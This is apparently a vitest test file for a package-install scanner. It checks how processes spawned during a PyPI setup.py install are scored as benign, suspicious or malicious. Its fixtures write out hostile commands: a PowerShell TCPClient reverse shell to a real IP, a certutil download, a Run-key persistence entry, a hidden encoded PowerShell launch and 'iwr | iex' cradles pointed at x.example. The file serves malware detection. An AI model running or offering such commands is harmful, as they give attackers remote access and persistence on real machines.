import { describe, expect, it } from 'vitest';
import { scoreReport } from '../src/index.js';
import { emptyReport, proc } from './helpers.js';

/** A PyPI report: pip has no lifecycle variables, so processes carry no attribution. */
function pypiReport(processes: ReturnType<typeof proc>[]) {
  const report = emptyReport();
  report.package = { ...report.package, ecosystem: 'pypi', name: 'demo-py' };
  report.processes = processes;
  return report;
}
const pip = proc(['/home/jordan/projects/app/.venv/bin/pip', 'install', '--no-index', 'demo.tar.gz'], { attribution: null });
const pipHelpers = [
  proc(['lsb_release', '-a'], { attribution: null }),
  proc(['uname', '-rs'], { attribution: null }),
  proc(['python3', '-c', 'exec(compile(...))'], { attribution: null }),
];

describe('PyPI setup.py behaviour', () => {
  it("keeps pip's own helpers benign", () => {
    expect(scoreReport(pypiReport([pip, ...pipHelpers]))).toMatchObject({ verdict: 'benign', score: 0 });
  });

  it('flags a shell started from setup.py (os.system) as suspicious', () => {
    const v = scoreReport(
      pypiReport([pip, ...pipHelpers, proc(['sh', '-c', 'curl -s http://x.example/a | tee /tmp/a'], { attribution: null })]),
    );
    expect(v.verdict).toBe('suspicious');
    expect(v.reasons.map((r) => r.rule)).toContain('setup-script-shell');
  });

  it('ignores shells under a compiler build', () => {
    const gcc = proc(['x86_64-linux-gnu-gcc', '-c', 'ext.c'], { attribution: null, pid: 501, ppid: pip.pid });
    const shell = proc(['sh', '-c', 'as --version'], { attribution: null, pid: 502, ppid: 501 });
    expect(scoreReport(pypiReport([pip, gcc, shell])).reasons.map((r) => r.rule)).not.toContain('setup-script-shell');
  });

  it('calls a PowerShell TCPClient one-liner a reverse shell (conclusive), even though powershell is missing', () => {
    const attempt = proc(
      ['sh', '-c', 'powershell -NoP -Command "$client = New-Object System.Net.Sockets.TCPClient(\'47.96.145.144\',4502)"'],
      { attribution: null },
    );
    const v = scoreReport(pypiReport([pip, attempt]));
    expect(v).toMatchObject({ verdict: 'malicious', score: 100 });
    expect(v.reasons.map((r) => r.rule)).toEqual(expect.arrayContaining(['reverse-shell.command', 'windows-payload-attempt']));
  });

  it('flags a failed attempt to run powershell directly (ENOENT) as a Windows payload', () => {
    const attempt = proc(['powershell', '-NoProfile', '-Command', 'Get-ChildItem'], { attribution: null, result: 'ENOENT' });
    const v = scoreReport(pypiReport([pip, attempt]));
    expect(v.reasons[0]).toMatchObject({ rule: 'windows-payload-attempt', weight: 45 });
    expect(v.verdict).toBe('suspicious');
  });

  it('calls a hidden, encoded PowerShell malicious whether the exec failed (Linux) or reached the windows view stub', () => {
    for (const over of [{ result: 'ENOENT' }, { path: '/usr/local/bin/powershell', result: '0' }]) {
      const attempt = proc(['powershell', '-WindowStyle', 'Hidden', '-EncodedCommand', 'cABvAHcA'], { attribution: null, ...over });
      const v = scoreReport(pypiReport([pip, attempt]));
      expect(v.verdict, over.result).toBe('malicious');
      expect(v.reasons.map((r) => r.rule)).toEqual(expect.arrayContaining(['windows-payload.launch', 'windows-payload-attempt']));
    }
  });

  it('takes the launch patterns of droppers (rundll32 of a DLL, certutil fetch, Run key, hidden Start-Process), not plain Windows calls', () => {
    const launched = (argv: string[]) =>
      scoreReport(pypiReport([pip, proc(argv, { attribution: null })]))
        .reasons.map((r) => r.rule)
        .includes('windows-payload.launch');
    expect(launched(['rundll32', 'C:\\Users\\a\\AppData\\node-gyp.dll,main'])).toBe(true);
    expect(launched(['certutil', '-urlcache', '-f', 'http://x.example/a.exe', 'a.exe'])).toBe(true);
    expect(launched(['reg', 'add', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '/v', 'u', '/d', 'a.exe'])).toBe(true);
    expect(launched(['sh', '-c', 'powershell -w hidden -c "iwr http://x.example/s | iex"'])).toBe(true);
    expect(launched(['powershell', '-Command', "Start-Process pythonw 'C:\\Users\\a\\x.pyw'"])).toBe(true);
    expect(launched(['cmd', '/c', 'mklink', '/J', 'a', 'b'])).toBe(false);
    expect(launched(['powershell', '-NoProfile', '-Command', 'Get-CimInstance MSFT_VSInstance'])).toBe(false);
    // A Linux program whose arguments read like a cradle is not a Windows launch.
    expect(launched(['curl', '-s', 'http://x.example/iex'])).toBe(false);
  });
});
